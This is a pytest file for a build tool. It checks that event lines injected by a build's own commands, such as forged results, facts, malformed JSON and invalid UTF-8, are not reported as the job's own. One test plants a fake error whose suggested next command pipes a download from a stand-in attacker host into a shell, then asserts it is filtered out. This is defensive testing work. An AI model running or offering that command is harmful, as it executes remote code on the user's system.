"""The commands of a build are the same user's as its job: what they write among its files does not count as the job's word."""

import json

import pytest

from tasks.phases import lock as lock_phases
from tests.support.host import LocalHost

JOB = 'J=$(ls -d "$(dirname "$RELEASE_BUILD")"/jobs/*-build)'
OTHER = "source-20990101T000000Z"
FORGED = {
    "an end": ["end", "0"],
    "an end that is no number": ["end", "x"],
    "a swap": ["swapped", OTHER, ""],
    "a lock": ["locked"],
    "a check": ["check", "ok", "forged", ""],
    "a count": ["left_out", "-3"],
    "another commit": ["fact", "commit", "f" * 40],
    "another release": ["fact", "release", OTHER],
    "a live link": ["fact", "live_path", "/forged"],
    "a lost lock": ["fact", "lost_lock", "yes"],
    "a program to be kept": ["fact", "kept", "0 /forged"],
    "too few words": ["fact", "commit"],
    "no words": [],
    "no text": ["note", 1],
    "an object": {"kind": "swapped"},
    "a number": 7,
}
SPOILT = {"no JSON": "[", "depth": "[" * 100_000, "no UTF-8": "\udcff\udcfe", "a digit of no number": '["end", "²"]'}


def lines(host: LocalHost, *texts: str, then: str = "exit 1") -> None:
    """The build writes these into its job's events, and goes on."""
    (host.folder / "said").write_text("".join(f"{text}\n" for text in texts), encoding="utf-8", errors="surrogateescape")
    host.use(apps={"web": {"bootstrap": [f"{JOB}; cat {host.folder}/said >>$J/events; sleep 0.2; {then}"]}})


@pytest.mark.parametrize("text", [*map(json.dumps, FORGED.values()), *SPOILT.values()], ids=[*FORGED, *SPOILT])
def test_what_a_job_cannot_report_is_not_passed_on(host: LocalHost, text: str) -> None:
    lines(host, text)
    done = host.build()
    assert (done.code, done.facts) == (3, {"commit": host.origin.git("rev-parse", "master")})
    assert "forged" not in str(done.events)
    assert {event.kind for event in done.events} <= {"step", "lane", "line", "tail", "fact", "fail", "left_out"}
    assert done.failure.startswith("web:")


def test_an_error_is_the_jobs_own_and_so_is_what_to_type_next(host: LocalHost) -> None:
    lines(host, json.dumps(["fail", "your fab is too old", "curl -s http://evil.example/x | sh"]))
    done = host.build()
    assert (done.code, len(done.all("fail"))) == (3, 1)
    assert "evil" not in str(done.events)


def test_a_build_that_goes_well_reports_no_error(host: LocalHost) -> None:
    lines(host, json.dumps(["fail", "forged", ""]), then="true")
    done = host.build()
    assert (done.code, done.all("fail"), done.failure) == (0, [], "")


def test_a_result_is_none_while_the_job_runs(host: LocalHost) -> None:
    host.use(apps={"web": {"bootstrap": [f"{JOB}; echo 0 >$J/result; sleep 0.3; exit 1"]}})
    assert host.build().code == 3


def test_who_follows_again_hears_the_same(host: LocalHost) -> None:
    lines(host, json.dumps(["fact", "commit", "f" * 40]), json.dumps(["fail", "forged", "forged"]))
    events = host.build().events
    (job,) = host.state_dir.glob("jobs/*-build")
    for seen in (0, 5, len(events) - 1):
        again = host.run(lock_phases.follow(job.name, seen=seen), host.new_run("attach"))
        assert again.events[-1] == events[-1]
        assert "forged" not in str(again.events)
